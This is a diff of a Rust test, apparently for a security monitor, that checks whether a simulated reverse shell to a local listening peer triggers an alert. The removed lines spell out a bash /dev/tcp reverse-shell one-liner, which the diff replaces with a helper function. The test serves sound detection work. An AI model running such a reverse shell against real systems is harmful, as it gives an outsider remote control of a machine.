@@ -10,7 +10,7 @@ use std::{
 
 use sentinel_tests::{
     bed::{Bed, skip},
-    peer::Peer,
+    peer::{self, Peer},
     sentinel::{Outcome, PATIENCE, Sentinel, alerts, within},
 };
 
@@ -20,9 +20,7 @@ fn attack(bed: &Bed, socket: &Path, more: &[&str]) -> Outcome {
     let options = [&["--enable-syslog", target.as_str()], more].concat();
     let sentinel = Sentinel::start(bed, &options);
     let peer = Peer::listen("127.0.0.1");
-    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
-    let mut command = bed.command("bash");
-    let mut child = command.args(["-c", &code]).stderr(Stdio::null()).spawn().unwrap();
+    let mut child = peer::reverse_shell(bed, &peer);
     let mut shell = peer.shell();
     shell.pid();
     shell.exit();
